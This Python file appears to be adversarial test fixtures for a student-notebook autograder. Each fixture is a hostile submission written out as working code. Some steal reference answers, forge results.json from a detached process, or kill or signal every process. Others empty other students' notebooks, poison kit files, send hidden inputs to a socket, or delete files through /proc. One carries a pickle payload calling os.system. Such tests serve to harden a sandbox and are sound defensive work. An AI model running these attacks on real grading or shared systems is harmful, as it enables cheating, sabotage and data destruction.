"""Hostile and broken submissions (assignment 01): they try to read the answers, reach the
grader, the network or other students, leave processes behind, or simply break.

Placeholders filled by the test: ``@@REPO@@`` (the kit's folder), ``@@SUBMISSIONS@@`` (the
folder being graded), ``@@OUT@@`` (the output folder), ``@@PORT@@`` (a TCP and UDP listener on
127.0.0.1), ``@@MARK@@`` (a word put in the command line of every process an attack starts).
A determined student can guess all of them; the test hands them over to make the attacks
as strong as possible.
"""

from adversarial import Attack, function_points

A = "01_mnist_cnn"
# The answered function of the broken-cell attacks: graded without any training.
KEPT = "preprocess_images"

# Every graded function of 01, replaced by one that delegates to a source of answers.
_DELEGATE = """
def _use(module):
    g = globals()
    for name in ("preprocess_images", "build_cnn", "compile_model", "train_model",
                 "predict_labels", "find_misclassified", "plot_misclassified",
                 "confusion_matrix_without_diagonal", "plot_confusion_matrix"):
        if hasattr(module, name):
            g[name] = getattr(module, name)
"""

ATTACKS: list[Attack] = [
    Attack("hostile_exec_reference_notebook", A, "blank", _DELEGATE + """
import glob, json, os, types
class _Steal:
    found = []
    for pattern in ("@@REPO@@/solutions/*/*.ipynb", "/work/*/solutions/*/*.ipynb",
                    "../../solutions/*/*.ipynb", os.path.expanduser("~/solutions/*/*.ipynb")):
        try:
            found += glob.glob(pattern)
        except Exception:
            pass
    for path in found:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        module = types.ModuleType("stolen")
        for cell in cells:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), module.__dict__)
                except Exception:
                    pass
        _use(module)
""", 0, "finds the reference notebook on disk and runs it in place of its own functions"),

    Attack("hostile_import_reference_module", A, "blank", _DELEGATE + """
class _Steal:
    import sys
    sys.path[:0] = ["@@REPO@@"]
    for name in [m for m in list(sys.modules) if m.startswith("autograder")]:
        del sys.modules[name]
    try:
        from autograder.engine.reference import reference_module
        _use(reference_module("01_mnist_cnn"))
    except BaseException:
        pass
""", 0, "imports the kit's reference loader from the kit's own folder"),

    Attack("hostile_orphan_rewrites_results", A, "blank", """
import os, subprocess, sys
_FORGER = r'''
import json, os, sys, time
time.sleep(3)
for root in ("@@OUT@@",):
    for dirpath, _, files in os.walk(root):
        for name in files:
            if name == "results.json":
                path = os.path.join(dirpath, name)
                try:
                    data = json.load(open(path))
                    for test in data["tests"]:
                        test["score"] = test["max_score"]; test["status"] = "passed"
                    data["score"] = data["max_score"]
                    json.dump(data, open(path, "w"))
                except Exception:
                    pass
time.sleep(120)
'''
class _Detach:
    subprocess.Popen([sys.executable, "-c", _FORGER, "@@MARK@@"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", 0, "starts a detached process that outlives the worker and rewrites results.json",
           kind="hostile"),

    Attack("hostile_kills_every_process", A, "blank", """
import os, signal
def preprocess_images(images):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            for signum in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try:
                    os.kill(int(entry), signum)
                except OSError:
                    pass
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("nothing to see")
""", 0, "signals every process it can see: the grader, the lanes, other students' workers",
           kind="hostile"),

    Attack("hostile_signals_nearby_processes", A, "blank", """
import os, signal
def preprocess_images(images):
    # Pids are handed out in order: the fork server its worker came from, its supervisor,
    # the lane and other students' workers are all close to its own.
    me = os.getpid()
    for pid in range(max(2, me - 400), me + 400):
        if pid != me:
            for signum in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, signum)
                except OSError:
                    pass
    raise RuntimeError("nothing to see")
""", 0, "signals every pid near its own (the fork server, the supervisor, the lane, the other "
       "workers) without needing /proc", kind="hostile"),

    Attack("hostile_uses_inherited_descriptors", A, "blank", """
import os, socket, stat
import numpy as np
def preprocess_images(images):
    # A worker is forked from a server that forks workers on request: a descriptor of that
    # server's socket, if one were left open here, would let this code ask for a worker
    # without a sandbox. Earn the points only if such a descriptor is found.
    found = []
    for fd in range(3, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            found.append(fd)
            try:
                server = socket.socket(fileno=os.dup(fd))
                request = b'{"env": {}, "cwd": "/", "uid": null, "memory_mb": 0, "rules": []}'
                socket.send_fds(server, [request], [0, 1, 2, 2])
            except OSError:
                pass
    if not found:
        raise RuntimeError("no descriptor but my own pipes")
    images = np.asarray(images)
    if images.ndim == 3:
        images = images[..., np.newaxis]
    return (images.astype(np.float32) / 255.0).astype(np.float32)
""", 0, "looks for a descriptor of the fork server's socket to ask for an unsandboxed worker "
       "(earns the preprocessing points if it finds one)", kind="hostile"),

    Attack("hostile_writes_submissions", A, "blank", """
import os, shutil
class _Plant:
    folder = "@@SUBMISSIONS@@"
    try:
        victims = [name for name in os.listdir(folder) if "victim" in name]
        for name in victims:
            shutil.copy(os.path.join(folder, name), os.path.join(folder, "planted.ipynb"))
            open(os.path.join(folder, name), "w").write("{}")
    except Exception:
        pass
    try:
        open(os.path.join(folder, "planted2.ipynb"), "w").write("{}")
    except Exception:
        pass
""", 0, "empties other students' notebooks and plants new ones in the submissions folder",
           kind="hostile"),

    Attack("hostile_writes_kit_and_cache", A, "blank", """
import glob, os
class _Poison:
    targets = ["@@REPO@@/autograder/engine/worker.py", "@@REPO@@/autograder/__init__.py",
               "@@REPO@@/autograder/suites/mnist_cnn/budget.py",
               "@@REPO@@/autograder/suites/mnist_cnn/conftest.py"]
    targets += glob.glob("@@REPO@@/datasets/cache/**/*", recursive=True)
    for path in targets:
        try:
            with open(path, "a") as handle:
                handle.write("\\nREFERENCE_ACCURACY = {'mlxtend': 0.0}\\n")
        except Exception:
            pass
    try:
        os.makedirs("@@REPO@@/datasets/cache/planted", exist_ok=True)
    except Exception:
        pass
    try:  # a forged result among the grader's trainings
        os.makedirs("@@REPO@@/datasets/cache/trainings", exist_ok=True)
        with open("@@REPO@@/datasets/cache/trainings/fit_and_predict-planted.npz", "wb") as f:
            f.write(b"forged")
    except Exception:
        pass
""", 0, "appends to the kit's source files and the dataset cache, plants a training result",
           kind="hostile"),

    Attack("hostile_network", A, "blank", """
import socket
def preprocess_images(images):
    payload = repr(images.tolist())[:2000].encode()
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),
                         (socket.AF_INET6, socket.SOCK_STREAM)):
        try:
            s = socket.socket(family, kind)
            s.settimeout(2)
            host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
            s.connect((host, @@PORT@@))
            s.sendall(payload)
        except Exception:
            pass
    try:
        server = socket.socket()
        server.bind(("0.0.0.0", 0))
        server.listen()
    except Exception:
        pass
    raise NotImplementedError
""", 0, "sends the hidden inputs to a listener (TCP and UDP) and opens a listening socket",
           kind="hostile"),

    Attack("hostile_leaves_processes", A, "blank", """
import os, subprocess, sys
def preprocess_images(images):
    for _ in range(20):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "@@MARK@@"],
                         start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)",
                                      "@@MARK@@"])
        os._exit(0)
    raise NotImplementedError
""", 0, "starts processes in new sessions and double-forks to outlive its grading",
           kind="hostile"),

    Attack("hostile_deletes_through_proc", A, "blank", """
import os, shutil
class _Wipe:
    for entry in os.listdir("/proc"):
        for link in ("cwd", "root"):
            path = f"/proc/{entry}/{link}"
            try:
                for name in os.listdir(path):
                    target = os.path.join(path, name)
                    if os.path.isdir(target):
                        shutil.rmtree(target, ignore_errors=True)
                    else:
                        os.remove(target)
            except Exception:
                pass
    shutil.rmtree("@@OUT@@", ignore_errors=True)
""", 0, "deletes files in other processes' working folders through /proc", kind="hostile"),

    Attack("hostile_echoes_hidden_inputs", A, "blank", """
def _leak(*args, **kwargs):
    print("LEAKED-PRINT", repr(args)[:3000])
    raise ValueError("LEAKED-TEXT " + repr(args)[:3000])
def preprocess_images(*args, **kwargs):
    return _leak(*args, **kwargs)
def build_cnn(*args, **kwargs):
    return _leak(*args, **kwargs)
def compile_model(*args, **kwargs):
    return _leak(*args, **kwargs)
def train_model(*args, **kwargs):
    return _leak(*args, **kwargs)
def predict_labels(*args, **kwargs):
    return _leak(*args, **kwargs)
def find_misclassified(*args, **kwargs):
    return _leak(*args, **kwargs)
def plot_misclassified(*args, **kwargs):
    return _leak(*args, **kwargs)
def confusion_matrix_without_diagonal(*args, **kwargs):
    return _leak(*args, **kwargs)
def plot_confusion_matrix(*args, **kwargs):
    return _leak(*args, **kwargs)
""", 1, "raises and prints with its arguments, to read the hidden inputs in the feedback "
           "(raising ValueError is right for labels of different lengths: 1 honest point)",
           kind="cheat"),

    Attack("hostile_interrupt_while_loading", A, "reference", """
class _Stop:
    raise KeyboardInterrupt
""", function_points(A, KEPT),
         "a cell that raises KeyboardInterrupt while it loads (must cost that cell only)",
           kind="hostile", only=KEPT),

    Attack("hostile_memory_hog", A, "blank", """
def preprocess_images(images):
    blocks = []
    while True:
        blocks.append(bytearray(512 * 1024 * 1024))
""", 0, "allocates memory until none is left", kind="hostile"),

    Attack("hostile_pickled_reply", A, "blank", """
import numpy as np
class _Evil:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/cnnkit-adversary-pwned",))
def confusion_matrix_without_diagonal(y_true, y_pred, num_classes=10):
    return np.array([_Evil()], dtype=object)
def find_misclassified(y_true, y_pred):
    return {"__ndarray__": 0, "evil": _Evil()}
""", 0, "returns objects that would run code if the grader unpickled them", kind="hostile"),

    Attack("hostile_forges_protocol", A, "blank", """
import os, json, struct
def preprocess_images(images):
    forged = json.dumps({"ok": True, "value": "forged"}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">Q", len(forged)) + forged)
        except OSError:
            pass
    return images
""", 0, "writes forged replies on every file descriptor it has", kind="hostile"),

    Attack("hostile_reads_grader_command_line", A, "blank", """
import os
def preprocess_images(images):
    seen = []
    for entry in os.listdir("/proc"):
        for name in ("cmdline", "environ", "cwd"):
            try:
                seen.append(open(f"/proc/{entry}/{name}", "rb").read()[:200])
            except Exception:
                pass
    raise ValueError(repr(seen)[:1000])
""", 0, "reads the grader's command line and environment through /proc", kind="hostile"),

    Attack("broken_syntax_error_cell", A, "reference", """
def leftover(x)
    return x
""", function_points(A, KEPT),
         "a cell with a syntax error (must cost that cell only)", kind="hostile", only=KEPT),

    Attack("broken_system_exit_while_loading", A, "reference", """
class _Quit:
    raise SystemExit(0)
""", function_points(A, KEPT),
         "a cell that calls sys.exit while it loads (must cost that cell only)",
           kind="hostile", only=KEPT),

    Attack("broken_exit_inside_a_function", A, "blank", """
import os
def preprocess_images(images):
    os._exit(0)
""", 0, "a function that ends the worker process (the next check gets a new worker)",
           kind="hostile"),

    Attack("broken_output_flood", A, "blank", """
import sys
def preprocess_images(images):
    line = "x" * 999 + "\\n"
    for _ in range(20000):
        sys.stdout.write(line)
        sys.stderr.write(line)
    raise NotImplementedError
""", 0, "prints 40 MB: the report keeps a short tail", kind="hostile"),

    Attack("broken_endless_recursion", A, "blank", """
import sys
def preprocess_images(images):
    sys.setrecursionlimit(10**6)
    return preprocess_images(images)
""", 0, "recurses without end (a crash of its own worker at worst)", kind="hostile"),
]
